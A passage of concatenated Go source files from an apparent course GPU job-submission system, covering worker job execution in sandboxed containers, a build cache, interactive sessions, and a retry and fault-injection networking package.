	// naming a head-dropped trace would be a dead link.
	exemplarTrace := ""
	if req.TraceID != "" && w.Sampler.Keep(req.TraceID) {
		exemplarTrace = req.TraceID
	}
	w.tel.jobHDR.ObserveExemplar(result.elapsed.Seconds(), exemplarTrace)
	update := docstore.M{
		"status":           status,
		"elapsed_s":        result.elapsed.Seconds(),
		"internal_timer_s": result.internalTimer.Seconds(),
		"accuracy":         result.accuracy,
		"time_report":      result.timeReport,
		"build_bucket":     result.buildBucket,
		"build_key":        result.buildKey,
		"log_bytes":        result.logBytes,
		"cached":           result.cached,
	}
	w.recordJob(ctx, &req, update)

	// Final submissions record timing onto the ranking database,
	// overwriting existing records (§V "Student Final Submission").
	if req.Kind == KindSubmit && result.ok {
		w.upsert(ctx, CollRankings, docstore.M{"team": req.User}, docstore.M{"$set": docstore.M{
			"runtime_s":  result.internalTimer.Seconds(),
			"accuracy":   result.accuracy,
			"job_id":     req.ID,
			"updated_at": w.Clock.Now().UTC().Format(time.RFC3339Nano),
		}})
	}
	w.Log.Info(ctx, "job finished",
		telemetry.L("status", status), telemetry.L("elapsed_s", fmt.Sprintf("%.3f", result.elapsed.Seconds())))

	end(&LogMessage{
		Status:        status,
		Elapsed:       result.elapsed.Seconds(),
		InternalTimer: result.internalTimer.Seconds(),
		Accuracy:      result.accuracy,
		BuildBucket:   result.buildBucket,
		BuildKey:      result.buildKey,
		Cached:        result.cached,
	})
	_ = m.Ack()
}

// resolveSpec picks the effective build file: the enforced Listing 2
// spec for final submissions, the embedded spec (or Listing 1 default)
// otherwise.
func (w *Worker) resolveSpec(req *JobRequest) (*build.Spec, error) {
	if req.Kind == KindSubmit {
		return build.Submission(), nil
	}
	if len(req.BuildSpec) == 0 {
		return build.Default(), nil
	}
	spec, err := build.Parse(req.BuildSpec)
	if err != nil {
		return nil, fmt.Errorf("invalid build specification: %v", err)
	}
	return spec, nil
}

// rateLimitOK consults the job records for the user's last accepted job.
func (w *Worker) rateLimitOK(user string) (bool, time.Duration) {
	if w.Cfg.RateLimit <= 0 {
		return true, 0
	}
	docs, err := w.DB.Find(CollJobs, docstore.M{
		"user":   user,
		"status": docstore.M{"$ne": StatusRejected},
	}, docstore.FindOpts{Sort: []string{"-created_at"}, Limit: 1})
	if err != nil || len(docs) == 0 {
		return true, 0
	}
	createdStr, _ := docs[0]["created_at"].(string)
	last, err := time.Parse(time.RFC3339Nano, createdStr)
	if err != nil {
		return true, 0
	}
	elapsed := w.Clock.Now().Sub(last)
	if elapsed < w.Cfg.RateLimit {
		return false, w.Cfg.RateLimit - elapsed
	}
	return true, 0
}

// recordJob upserts the job document.
func (w *Worker) recordJob(ctx context.Context, req *JobRequest, fields docstore.M) {
	set := docstore.M{
		"user":          req.User,
		"kind":          req.Kind,
		"created_at":    req.SubmittedAt.UTC().Format(time.RFC3339Nano),
		"upload_bucket": req.UploadBucket,
		"upload_key":    req.UploadKey,
	}
	for k, v := range fields {
		set[k] = v
	}
	w.upsert(ctx, CollJobs, docstore.M{"job_id": req.ID}, docstore.M{"$set": set})
}

// upsert routes through the store's context-aware variant when it has
// one (the HTTP client), so the trace identity in ctx propagates to the
// docstore as X-RAI-* headers and its write appears in the job's span
// tree. Plain in-process stores fall back to the context-free call.
func (w *Worker) upsert(ctx context.Context, coll string, filter, update docstore.M) {
	type ctxUpserter interface {
		UpsertContext(ctx context.Context, coll string, filter, update docstore.M) (string, error)
	}
	if u, ok := w.DB.(ctxUpserter); ok {
		_, _ = u.UpsertContext(ctx, coll, filter, update)
		return
	}
	_, _ = w.DB.Upsert(coll, filter, update)
}

// execResult aggregates one job execution.
type execResult struct {
	ok            bool
	elapsed       time.Duration
	internalTimer time.Duration
	accuracy      float64
	timeReport    string
	buildArchive  []byte
	buildBucket   string
	buildKey      string
	logBytes      int64
	// cached marks the job as answered from the warm build cache.
	cached bool
}

// execute downloads the project, runs the build spec in a container, and
// packs /build (worker steps 3–6).
func (w *Worker) execute(ctx context.Context, req *JobRequest, spec *build.Spec, logf func(kind, format string, args ...any), parent *telemetry.Span) execResult {
	var res execResult

	// Worker step 4: download and unpack the project. The upload object
	// is either a legacy tar.bz2 archive or a CAS manifest (DESIGN.md
	// §16) — sniffed by magic, so old clients need no flag. Archives
	// stream straight into the unpacker; manifests materialize the tree
	// chunk by chunk from the store. The download span rides the request
	// context so storage child spans nest under it, and covers the whole
	// transfer.
	dl := parent.Child("download")
	dlCtx := telemetry.ContextWithSpan(ctx, dl)
	rc, _, err := w.Objects.GetReader(dlCtx, req.UploadBucket, req.UploadKey)
	if err != nil {
		dl.End()
		logf(LogSystem, "cannot download project archive: %v", err)
		return res
	}
	hostFS := vfs.New()
	counted := &countingReader{r: rc}
	br := bufio.NewReader(counted)
	magic, _ := br.Peek(len(cas.Magic))
	treeHash := ""
	if cas.IsManifest(magic) {
		body, rerr := io.ReadAll(io.LimitReader(br, cas.MaxManifestBytes+1))
		rc.Close()
		var m *cas.Manifest
		if rerr == nil {
			m, rerr = cas.Decode(body)
		}
		if rerr != nil {
			dl.End()
			logf(LogSystem, "cannot decode project manifest: %v", rerr)
			return res
		}
		fetch := func(hash string) ([]byte, error) {
			return w.Objects.Get(dlCtx, cas.Bucket, cas.ChunkKey(hash))
		}
		fetches, bytesFetched, merr := cas.Materialize(m, fetch, hostFS, "/src")
		w.tel.casFetches.Add(float64(fetches))
		w.tel.casBytes.Add(float64(bytesFetched))
		dl.SetAttr("bytes", fmt.Sprint(counted.n+bytesFetched))
		dl.SetAttr("chunks", fmt.Sprint(fetches))
		dl.End()
		if merr != nil {
			logf(LogSystem, "cannot materialize project tree: %v", merr)
			return res
		}
		treeHash = m.TreeHash
	} else {
		err = unpackProject(br, hostFS)
		rc.Close()
		dl.SetAttr("bytes", fmt.Sprint(counted.n))
		dl.End()
		if err != nil {
			logf(LogSystem, "cannot unpack project archive: %v", err)
			return res
		}
		// Hash the unpacked tree so legacy archive uploads share the
		// build cache with manifest submissions of the same content.
		if m, _, herr := cas.BuildVFS(hostFS, "/src"); herr == nil {
			treeHash = m.TreeHash
		}
	}
	if req.Kind == KindSubmit {
		if err := CheckSubmissionFiles(hostFS, "/src"); err != nil {
			logf(LogSystem, "%v", err)
			return res
		}
	}

	// Warm build cache: a kind-"run" job whose resolved spec and source
	// tree match a previously successful execution replays that result —
	// no container, no build, no run. Final submissions always execute.
	cacheKey := ""
	if req.Kind == KindRun {
		cacheKey = buildCacheKey(spec, treeHash)
	}
	if cacheKey != "" {
		span := parent.Child("cache")
		lookupStart := w.Clock.Now()
		cr, archive, hit := w.lookupBuildCache(telemetry.ContextWithSpan(ctx, span), cacheKey)
		span.SetAttr("hit", fmt.Sprint(hit))
		span.End()
		w.tel.phases["cache"].Observe(w.Clock.Now().Sub(lookupStart).Seconds())
		if hit {
			w.tel.bcHits.Inc()
			w.tel.bcSavedSec.Add(cr.ElapsedS)
			logf(LogSystem, "build cache hit (%s…): identical spec and tree already built; replaying result (saved %.1fs)",
				cacheKey[:12], cr.ElapsedS)
			res.ok = true
			res.cached = true
			res.internalTimer = time.Duration(cr.InternalTimer * float64(time.Second))
			res.accuracy = cr.Accuracy
			res.timeReport = cr.TimeReport
			res.buildArchive = archive
			return res
		}
		w.tel.bcMisses.Inc()
	}

	// Worker step 3: start the sandboxed container with the CUDA volume
	// and pipes feeding the log topic.
	stdout := newLineWriter(func(line string) { logf(LogStdout, "%s", line) })
	stderr := newLineWriter(func(line string) { logf(LogStderr, "%s", line) })
	ctr, err := w.runtime.Start(sandbox.Config{
		Image: spec.RAI.Image,
		Mounts: []sandbox.Mount{
			{Source: hostFS, SourcePath: "/src", Target: "/src", ReadOnly: true},
			{Source: w.DataFS, SourcePath: w.DataPath, Target: "/data", ReadOnly: true},
		},
		MemoryBytes: w.Cfg.MemoryBytes,
		Lifetime:    w.Cfg.Lifetime,
		Stdout:      stdout,
		Stderr:      stderr,
		Cost:        w.Cfg.Cost,
	})
	if err != nil {
		logf(LogSystem, "cannot start container: %v", err)
		return res
	}
	defer ctr.Destroy()
	res.elapsed += ctr.PullLatency
	w.tel.phases["pull"].Observe(ctr.PullLatency.Seconds())

	// Worker step 5: run the build commands. Each command gets a span
	// under the dequeue span: "build" normally, renamed "run" when the
	// command performed inference (the graded phase).
	ok := true
	for _, cmd := range spec.RAI.Commands.Build {
		logf(LogSystem, "$ %s", cmd)
		span := parent.Child("build")
		span.SetAttr("cmd", cmd)
		r, err := ctr.Exec(cmd)
		res.elapsed += r.Wall
		phase := "build"
		if r.RanInference {
			phase = "run"
			span.SetName("run")
			res.internalTimer = r.InternalTimer
			res.accuracy = r.Accuracy
		}
		w.tel.phases[phase].Observe(r.Wall.Seconds())
		span.End()
		if r.TimeReport != "" {
			res.timeReport = r.TimeReport
		}
		if err != nil {
			if errors.Is(err, sandbox.ErrLifetimeExceeded) || errors.Is(err, sandbox.ErrMemoryExceeded) {
				logf(LogSystem, "container killed: %v", err)
			} else {
				logf(LogSystem, "command failed (exit %d)", r.ExitCode)
			}
			ok = false
			break
		}
	}
	stdout.Flush()
	stderr.Flush()
	res.ok = ok
	res.logBytes = stdout.Bytes() + stderr.Bytes()

	// Worker step 6: archive the container's /build directory.
	res.buildArchive = packBuild(ctr.FS(), logf)
	w.storeBuildCache(ctx, cacheKey, &res)
	return res
}

// unpackProject extracts a submitted archive streamed from r into
// hostFS at /src.
func unpackProject(r io.Reader, hostFS *vfs.FS) error {
	return archivex.UnpackVFSFrom(r, hostFS, "/src", archivex.Limits{})
}

// countingReader counts bytes consumed from a stream (span accounting).
type countingReader struct {
	r io.Reader
	n int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}

// packBuild archives the container's /build directory (nil on failure,
// which the caller reports but tolerates).
func packBuild(fs *vfs.FS, logf func(kind, format string, args ...any)) []byte {
	blob, err := archivex.PackVFS(fs, "/build")
	if err != nil {
		logf(LogSystem, "cannot pack build directory: %v", err)
		return nil
	}
	return blob
}

// lineWriter splits a stream into lines and hands each to a callback
// (the pipe from the container to the log topic, §V worker step 3).
type lineWriter struct {
	mu    sync.Mutex
	buf   strings.Builder
	emit  func(string)
	total int64
}

func newLineWriter(emit func(string)) *lineWriter {
	return &lineWriter{emit: emit}
}

// Write implements io.Writer.
func (l *lineWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.total += int64(len(p))
	for _, b := range p {
		if b == '\n' {
			l.emit(l.buf.String())
			l.buf.Reset()
			continue
		}
		l.buf.WriteByte(b)
	}
	return len(p), nil
}

// Flush emits any unterminated final line.
func (l *lineWriter) Flush() {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.buf.Len() > 0 {
		l.emit(l.buf.String())
		l.buf.Reset()
	}
}

// Bytes reports total bytes written.
func (l *lineWriter) Bytes() int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.total
}
