package core

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"time"

	"rai/internal/clock"
	"rai/internal/sandbox"
	"rai/internal/vfs"
)

// Interactive sessions implement the paper's stated future work
// ("allowing instructors to configure interactive sessions to enable
// more debugging and profiling tools", §VIII): instead of running a
// fixed command list, the worker keeps the sandboxed container alive and
// executes commands the student sends one at a time, with every §V limit
// still enforced (whitelisted image, read-only /src, no network, memory
// cap, and the container lifetime bounding the whole session).
//
// Wire layout: the session starts as a job with Kind "session". Commands
// travel on cmd_${job_id}/#ch (client → worker); output and per-command
// completion markers travel on the usual log_${job_id}/#ch topic.

// KindSession marks an interactive session job. Workers only accept it
// when WorkerConfig.AllowSessions is set (an instructor configuration
// decision, per the paper's phrasing).
const KindSession = "session"

// CmdTopic returns the ephemeral client→worker command topic.
func CmdTopic(jobID string) string { return "cmd_" + jobID + "#ch" }

// CmdChannel is the channel workers consume commands from.
const CmdChannel = "ch"

// Session control messages on the command topic.
type sessionCommand struct {
	JobID string `json:"job_id"`
	// Cmd is the shell command to execute; "exit" (or Close=true) ends
	// the session.
	Cmd   string `json:"cmd,omitempty"`
	Close bool   `json:"close,omitempty"`
}

// LogCmdDone is the log-message kind marking one command's completion.
const LogCmdDone = "cmd_done"

// ErrSessionClosed is returned when using a finished session.
var ErrSessionClosed = errors.New("core: session closed")

// ErrSessionsDisabled is the rejection reason when a worker does not
// accept interactive sessions.
var ErrSessionsDisabled = errors.New("core: worker does not accept interactive sessions")

// Session is the client handle for an interactive container.
type Session struct {
	JobID  string
	client *Client
	sub    Subscription
	clk    clock.Clock
	// base is the opening context minus its cancellation: Close must
	// still deliver the close marker (so the worker uploads /build)
	// after the interactive context ends.
	base context.Context
	// Result carries the End-message summary once the session ends.
	Result *JobResult
	closed bool
}

// CommandResult is one interactive command's outcome.
type CommandResult struct {
	Cmd      string
	ExitCode int
	Output   string // interleaved stdout/stderr lines
}

// OpenSessionContext uploads the project and starts an interactive
// session. The returned Session executes commands with Run and must be
// closed.
func (c *Client) OpenSessionContext(ctx context.Context, archive []byte) (*Session, error) {
	clk := c.Clock
	if clk == nil {
		clk = clock.Real{}
	}
	jobID := NewJobID()
	uploadKey := fmt.Sprintf("%s/%s/project.tar.bz2", c.Creds.UserName, jobID)
	if err := c.Objects.Put(ctx, BucketUploads, uploadKey, archive, UploadTTL); err != nil {
		return nil, fmt.Errorf("core: uploading project: %w", err)
	}
	req := &JobRequest{
		ID: jobID, User: c.Creds.UserName, AccessKey: c.Creds.AccessKey,
		Kind: KindSession, UploadBucket: BucketUploads, UploadKey: uploadKey,
		SubmittedAt: clk.Now(),
	}
	req.Token = tokenFor(c, req)
	sub, err := c.Queue.Subscribe(ctx, LogTopic(jobID), LogChannel, 1024)
	if err != nil {
		return nil, err
	}
	if err := c.Queue.Publish(ctx, TasksTopic, encodeJSON(req)); err != nil {
		sub.Close()
		return nil, err
	}
	s := &Session{JobID: jobID, client: c, sub: sub, clk: clk, base: context.WithoutCancel(ctx)}
	// Wait for the worker's ready marker (an empty cmd_done) or an early
	// End (rejection).
	res, err := s.waitCmdDone("")
	if err != nil {
		s.Close()
		return nil, err
	}
	_ = res
	return s, nil
}

// Run executes one command inside the session's container and returns
// its output once the worker signals completion.
func (s *Session) Run(ctx context.Context, cmd string) (*CommandResult, error) {
	if s.closed {
		return nil, ErrSessionClosed
	}
	if err := s.client.Queue.Publish(ctx, CmdTopic(s.JobID), encodeJSON(&sessionCommand{JobID: s.JobID, Cmd: cmd})); err != nil {
		return nil, err
	}
	return s.waitCmdDone(cmd)
}

// waitCmdDone collects output until a cmd_done (or End) arrives.
func (s *Session) waitCmdDone(cmd string) (*CommandResult, error) {
	res := &CommandResult{Cmd: cmd}
	var timeout <-chan time.Time
	if s.client.LogWait > 0 {
		timeout = s.clk.After(s.client.LogWait)
	}
	for {
		select {
		case m, ok := <-s.sub.C():
			if !ok {
				s.closed = true
				return nil, fmt.Errorf("core: session %s: log stream closed", s.JobID)
			}
			var lm LogMessage
			if err := json.Unmarshal(m.Body, &lm); err != nil {
				_ = m.Ack()
				continue
			}
			_ = m.Ack()
			switch lm.Kind {
			case LogStdout, LogStderr, LogSystem:
				res.Output += lm.Line + "\n"
				if s.client.Stdout != nil {
					fmt.Fprintln(s.client.Stdout, lm.Line)
				}
			case LogCmdDone:
				res.ExitCode = int(lm.Elapsed) // exit code rides the numeric field
				return res, nil
			case LogEnd:
				s.closed = true
				s.Result = &JobResult{
					JobID: s.JobID, Status: lm.Status,
					Elapsed:     time.Duration(lm.Elapsed * float64(time.Second)),
					Accuracy:    lm.Accuracy,
					BuildBucket: lm.BuildBucket, BuildKey: lm.BuildKey,
				}
				if lm.Status == StatusRejected {
					return nil, fmt.Errorf("%w: %s", ErrRejected, lm.Line)
				}
				return nil, fmt.Errorf("%w (status %s)", ErrSessionClosed, lm.Status)
			}
		case <-timeout:
			return nil, fmt.Errorf("core: session %s: timed out waiting for command completion", s.JobID)
		}
	}
}

// Close ends the session: the worker uploads /build and sends End.
func (s *Session) Close() error {
	if s.closed {
		return nil
	}
	_ = s.client.Queue.Publish(s.base, CmdTopic(s.JobID), encodeJSON(&sessionCommand{JobID: s.JobID, Close: true}))
	// Drain until End so Result is populated.
	for {
		m, ok := <-s.sub.C()
		if !ok {
			break
		}
		var lm LogMessage
		if err := json.Unmarshal(m.Body, &lm); err == nil && lm.Kind == LogEnd {
			s.Result = &JobResult{
				JobID: s.JobID, Status: lm.Status,
				Elapsed:     time.Duration(lm.Elapsed * float64(time.Second)),
				BuildBucket: lm.BuildBucket, BuildKey: lm.BuildKey,
			}
			_ = m.Ack()
			break
		}
		_ = m.Ack()
	}
	s.closed = true
	return s.sub.Close()
}

// tokenFor computes the request token (split out so session and batch
// paths share it).
func tokenFor(c *Client, req *JobRequest) string {
	return authToken(c, req)
}

// ---- worker side ----

// runSession drives an interactive session job: container up, then a
// command loop bounded by the container lifetime and an idle timeout.
func (w *Worker) runSession(ctx context.Context, req *JobRequest, logf func(kind, format string, args ...any)) execResult {
	var res execResult

	rc, _, err := w.Objects.GetReader(ctx, req.UploadBucket, req.UploadKey)
	if err != nil {
		logf(LogSystem, "cannot download project archive: %v", err)
		return res
	}
	hostFS := vfs.New()
	err = unpackProject(rc, hostFS)
	rc.Close()
	if err != nil {
		logf(LogSystem, "cannot unpack project archive: %v", err)
		return res
	}
	stdout := newLineWriter(func(line string) { logf(LogStdout, "%s", line) })
	stderr := newLineWriter(func(line string) { logf(LogStderr, "%s", line) })
	ctr, err := w.runtime.Start(sandbox.Config{
		Image: w.Cfg.DefaultImage,
		Mounts: []sandbox.Mount{
			{Source: hostFS, SourcePath: "/src", Target: "/src", ReadOnly: true},
			{Source: w.DataFS, SourcePath: w.DataPath, Target: "/data", ReadOnly: true},
		},
		MemoryBytes: w.Cfg.MemoryBytes,
		Lifetime:    w.Cfg.Lifetime,
		Stdout:      stdout,
		Stderr:      stderr,
		Cost:        w.Cfg.Cost,
	})
	if err != nil {
		logf(LogSystem, "cannot start container: %v", err)
		return res
	}
	defer ctr.Destroy()
	res.elapsed += ctr.PullLatency

	cmdSub, err := w.Queue.Subscribe(ctx, CmdTopic(req.ID), CmdChannel, 64)
	if err != nil {
		logf(LogSystem, "cannot open command channel: %v", err)
		return res
	}
	defer cmdSub.Close()

	logf(LogSystem, "interactive session ready (image %s, lifetime %v)", w.Cfg.DefaultImage, w.Cfg.Lifetime)
	w.signalCmdDone(ctx, req.ID, 0) // ready marker

	idle := w.Cfg.SessionIdleTimeout
	if idle <= 0 {
		idle = 10 * time.Minute
	}
	ok := true
loop:
	for {
		select {
		case m, open := <-cmdSub.C():
			if !open {
				break loop
			}
			var sc sessionCommand
			if err := json.Unmarshal(m.Body, &sc); err != nil {
				_ = m.Ack()
				continue
			}
			_ = m.Ack()
			if sc.Close || sc.Cmd == "exit" {
				logf(LogSystem, "session closed by client")
				break loop
			}
			logf(LogSystem, "$ %s", sc.Cmd)
			r, err := ctr.Exec(sc.Cmd)
			res.elapsed += r.Wall
			if r.RanInference {
				res.internalTimer = r.InternalTimer
				res.accuracy = r.Accuracy
			}
			if err != nil && (errors.Is(err, sandbox.ErrLifetimeExceeded) || errors.Is(err, sandbox.ErrMemoryExceeded)) {
				logf(LogSystem, "container killed: %v", err)
				w.signalCmdDone(ctx, req.ID, r.ExitCode)
				ok = false
				break loop
			}
			stdout.Flush()
			stderr.Flush()
			w.signalCmdDone(ctx, req.ID, r.ExitCode)
		case <-w.Clock.After(idle):
			logf(LogSystem, "session idle for %v; closing", idle)
			break loop
		}
	}
	stdout.Flush()
	stderr.Flush()
	res.ok = ok
	res.logBytes = stdout.Bytes() + stderr.Bytes()
	res.buildArchive = packBuild(ctr.FS(), logf)
	return res
}

// signalCmdDone publishes the per-command completion marker; the exit
// code travels in the numeric Elapsed field.
func (w *Worker) signalCmdDone(ctx context.Context, jobID string, exitCode int) {
	_ = w.Queue.Publish(ctx, LogTopic(jobID), encodeJSON(&LogMessage{
		JobID: jobID, Kind: LogCmdDone, Elapsed: float64(exitCode),
	}))
}
