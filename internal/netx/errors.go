package netx

import (
	"context"
	"errors"
	"fmt"
	"net/http"
)

// permanentError marks an error that retrying cannot fix (bad request,
// failed auth, missing object). Unwrap keeps errors.Is/As working on
// the cause.
type permanentError struct{ err error }

func (p *permanentError) Error() string { return p.err.Error() }
func (p *permanentError) Unwrap() error { return p.err }

// Permanent wraps err so DefaultRetryable refuses to retry it. A nil
// err stays nil.
func Permanent(err error) error {
	if err == nil {
		return nil
	}
	return &permanentError{err: err}
}

// IsPermanent reports whether err (or anything it wraps) was marked
// with Permanent.
func IsPermanent(err error) bool {
	var p *permanentError
	return errors.As(err, &p)
}

// StatusError is an HTTP failure carrying its status code so the retry
// classifier can distinguish server trouble (retryable 5xx) from caller
// mistakes (permanent 4xx).
type StatusError struct {
	Op   string // e.g. "objstore put"
	Code int
	Msg  string // trimmed response body excerpt
}

// Error implements error.
func (e *StatusError) Error() string {
	if e.Msg == "" {
		return fmt.Sprintf("%s: http %d %s", e.Op, e.Code, http.StatusText(e.Code))
	}
	return fmt.Sprintf("%s: http %d %s: %s", e.Op, e.Code, http.StatusText(e.Code), e.Msg)
}

// Temporary reports whether the status is worth retrying: any 5xx plus
// the two 4xx codes that mean "try again" (request timeout and rate
// limit).
func (e *StatusError) Temporary() bool {
	return e.Code >= 500 || e.Code == http.StatusRequestTimeout || e.Code == http.StatusTooManyRequests
}

// DefaultRetryable is the standard classification:
//
//   - nil, context.Canceled, and Permanent-marked errors: not retryable
//   - StatusError: per Temporary (5xx/408/429 yes, other 4xx no)
//   - everything else (dial refusals, resets, EOFs, per-attempt
//     deadline blows): retryable
func DefaultRetryable(err error) bool {
	if err == nil || errors.Is(err, context.Canceled) || IsPermanent(err) {
		return false
	}
	var se *StatusError
	if errors.As(err, &se) {
		return se.Temporary()
	}
	return true
}
