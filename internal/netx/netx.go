// Package netx is the stdlib-only resilience layer every RAI service
// boundary goes through: bounded retries with exponential backoff and
// full jitter, per-attempt and overall deadlines, and a retryable-error
// taxonomy. The paper's deployment leaned on NSQ, S3, and MongoDB client
// libraries that reconnect and retry internally; our substitutes
// (brokerd, objstore, docstore) get the same durability from this one
// package, so a dropped TCP connection costs a submission a short delay
// instead of the whole job.
//
// The entry points are Do and DoVal: they run an operation under a
// Policy, classifying each failure, sleeping between attempts on the
// policy's clock (virtual in simulations), and aborting promptly when
// the caller's context is done. Telemetry rides along through Metrics:
// every retry, reconnect, and blown deadline lands on rai_rpc_* counters
// that raiadmin top surfaces.
package netx

import (
	"context"
	"errors"
	"math/rand"
	"time"

	"rai/internal/clock"
)

// Defaults applied by Policy.withDefaults for zero fields.
const (
	DefaultMaxAttempts = 4
	DefaultBaseDelay   = 50 * time.Millisecond
	DefaultMaxDelay    = 5 * time.Second
)

// Policy shapes how Do runs an operation. The zero value is usable and
// means "4 attempts, 50ms..5s full-jitter backoff, no per-attempt or
// overall deadline beyond the caller's context".
type Policy struct {
	// MaxAttempts bounds total tries (first attempt included); <=0 means
	// DefaultMaxAttempts.
	MaxAttempts int
	// BaseDelay is the backoff cap before the first retry; it doubles
	// per attempt up to MaxDelay. The actual sleep is uniformly random
	// in [0, cap) ("full jitter"), which de-synchronizes a worker fleet
	// hammering a recovering broker.
	BaseDelay time.Duration
	// MaxDelay caps the backoff growth; <=0 means DefaultMaxDelay.
	MaxDelay time.Duration
	// PerAttempt, when positive, derives a child deadline for each
	// attempt so one stuck TCP connection cannot absorb the whole
	// budget. A per-attempt deadline blowing is retryable; the caller's
	// context expiring is not.
	PerAttempt time.Duration
	// Overall, when positive, bounds the whole Do call (all attempts and
	// sleeps) in addition to any deadline already on the caller's ctx.
	Overall time.Duration
	// Retryable classifies errors; nil means DefaultRetryable.
	Retryable func(error) bool
	// Clock times the backoff sleeps (virtual in simulations); nil means
	// the wall clock. Per-attempt/overall deadlines always use real time
	// because context deadlines do.
	Clock clock.Clock
	// Rand yields the jitter fraction in [0,1); nil means math/rand.
	// Tests inject a constant for determinism.
	Rand func() float64
	// OnRetry, when set, observes each scheduled retry (attempt is the
	// 1-based attempt that just failed).
	OnRetry func(attempt int, delay time.Duration, err error)
	// Metrics, when set, counts retries and blown deadlines. Nil-safe.
	Metrics *Metrics
}

func (p Policy) withDefaults() Policy {
	if p.MaxAttempts <= 0 {
		p.MaxAttempts = DefaultMaxAttempts
	}
	if p.BaseDelay <= 0 {
		p.BaseDelay = DefaultBaseDelay
	}
	if p.MaxDelay <= 0 {
		p.MaxDelay = DefaultMaxDelay
	}
	if p.Retryable == nil {
		p.Retryable = DefaultRetryable
	}
	if p.Clock == nil {
		p.Clock = clock.Real{}
	}
	if p.Rand == nil {
		p.Rand = rand.Float64
	}
	return p
}

// Delay returns the backoff sleep scheduled after the given 1-based
// failed attempt: uniform in [0, min(MaxDelay, BaseDelay<<(attempt-1))).
func (p Policy) Delay(attempt int) time.Duration {
	p = p.withDefaults()
	cap := p.BaseDelay
	for i := 1; i < attempt && cap < p.MaxDelay; i++ {
		cap *= 2
	}
	if cap > p.MaxDelay {
		cap = p.MaxDelay
	}
	return time.Duration(p.Rand() * float64(cap))
}

// Do runs op under p, retrying retryable failures with jittered backoff
// until success, attempt exhaustion, a non-retryable error, or ctx
// cancellation — whichever comes first. op receives a context carrying
// the per-attempt deadline (when configured) and must honor it.
func Do(ctx context.Context, p Policy, op func(context.Context) error) error {
	p = p.withDefaults()
	if p.Overall > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, p.Overall)
		defer cancel()
	}
	var lastErr error
	for attempt := 1; ; attempt++ {
		if err := ctx.Err(); err != nil {
			return p.ctxFailure(err, lastErr)
		}
		attemptCtx, cancel := ctx, context.CancelFunc(func() {})
		if p.PerAttempt > 0 {
			attemptCtx, cancel = context.WithTimeout(ctx, p.PerAttempt)
		}
		err := op(attemptCtx)
		cancel()
		if err == nil {
			return nil
		}
		lastErr = err
		// The caller's deadline (or the overall budget) expiring ends the
		// call even if the error itself looks retryable.
		if ctxErr := ctx.Err(); ctxErr != nil {
			return p.ctxFailure(ctxErr, err)
		}
		if attempt >= p.MaxAttempts || !p.Retryable(err) {
			return err
		}
		delay := p.Delay(attempt)
		p.Metrics.retry()
		if p.OnRetry != nil {
			p.OnRetry(attempt, delay, err)
		}
		select {
		case <-p.Clock.After(delay):
		case <-ctx.Done():
			return p.ctxFailure(ctx.Err(), err)
		}
	}
}

// ctxFailure folds the context error together with the last attempt's
// error (both remain visible to errors.Is/As) and counts blown
// deadlines.
func (p Policy) ctxFailure(ctxErr, lastErr error) error {
	if errors.Is(ctxErr, context.DeadlineExceeded) {
		p.Metrics.deadline()
	}
	if lastErr == nil || errors.Is(lastErr, ctxErr) {
		return ctxErr
	}
	return errors.Join(ctxErr, lastErr)
}

// DoVal is Do for operations that produce a value.
func DoVal[T any](ctx context.Context, p Policy, op func(context.Context) (T, error)) (T, error) {
	var out T
	err := Do(ctx, p, func(ctx context.Context) error {
		v, err := op(ctx)
		if err == nil {
			out = v
		}
		return err
	})
	return out, err
}
