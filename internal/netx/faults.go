package netx

import (
	"fmt"
	"net"
	"net/http"
	"sync/atomic"
)

// Fault injectors used by resilience tests across the repository: a
// RoundTripper that fails the first N HTTP requests and a Listener that
// kills the first N accepted connections. Both live in the package
// proper (not a _test file) so objstore, docstore, and brokerd tests can
// share them.

// FlakyTransport fails the first Fail requests with a synthetic
// connection error, then delegates to Base (http.DefaultTransport when
// nil). Safe for concurrent use.
type FlakyTransport struct {
	// Fail is how many leading requests to drop.
	Fail int32
	// Base handles requests once the fault budget is spent.
	Base http.RoundTripper

	attempts atomic.Int32
}

// RoundTrip implements http.RoundTripper.
func (t *FlakyTransport) RoundTrip(req *http.Request) (*http.Response, error) {
	n := t.attempts.Add(1)
	if n <= t.Fail {
		return nil, fmt.Errorf("netx: injected fault on request %d of %d", n, t.Fail)
	}
	base := t.Base
	if base == nil {
		base = http.DefaultTransport
	}
	return base.RoundTrip(req)
}

// Attempts reports how many requests have been attempted (including the
// dropped ones).
func (t *FlakyTransport) Attempts() int { return int(t.attempts.Load()) }

// FlakyListener wraps a net.Listener and immediately closes the first
// Drop accepted connections — the client sees an accept-then-reset, the
// same shape as a server restarting under it.
type FlakyListener struct {
	net.Listener
	// Drop is how many leading connections to kill.
	Drop int32

	accepted atomic.Int32
}

// Accept implements net.Listener.
func (l *FlakyListener) Accept() (net.Conn, error) {
	for {
		conn, err := l.Listener.Accept()
		if err != nil {
			return nil, err
		}
		if l.accepted.Add(1) <= l.Drop {
			_ = conn.Close()
			continue
		}
		return conn, nil
	}
}

// Accepted reports total accepted connections, dropped ones included.
func (l *FlakyListener) Accepted() int { return int(l.accepted.Load()) }
