package netx

import "rai/internal/telemetry"

// Metric names exposed on /metrics, labeled by component.
const (
	MetricRetries    = "rai_rpc_retries_total"
	MetricReconnects = "rai_rpc_reconnects_total"
	MetricDeadlines  = "rai_rpc_deadline_exceeded_total"
)

// Metrics aggregates the resilience counters for one component. All
// methods are nil-receiver safe, mirroring internal/telemetry, so a
// component with telemetry disabled just carries a nil *Metrics.
type Metrics struct {
	Retries    *telemetry.Counter
	Reconnects *telemetry.Counter
	Deadlines  *telemetry.Counter
}

// NewMetrics registers the rai_rpc_* counters on reg for the named
// component ("broker", "objstore", "docstore", ...). A nil reg yields
// no-op instruments.
func NewMetrics(reg *telemetry.Registry, component string) *Metrics {
	l := telemetry.L("component", component)
	return &Metrics{
		Retries:    reg.Counter(MetricRetries, "RPC attempts retried after a retryable failure", l),
		Reconnects: reg.Counter(MetricReconnects, "connections re-established after a drop", l),
		Deadlines:  reg.Counter(MetricDeadlines, "RPCs abandoned because a deadline expired", l),
	}
}

func (m *Metrics) retry() {
	if m != nil {
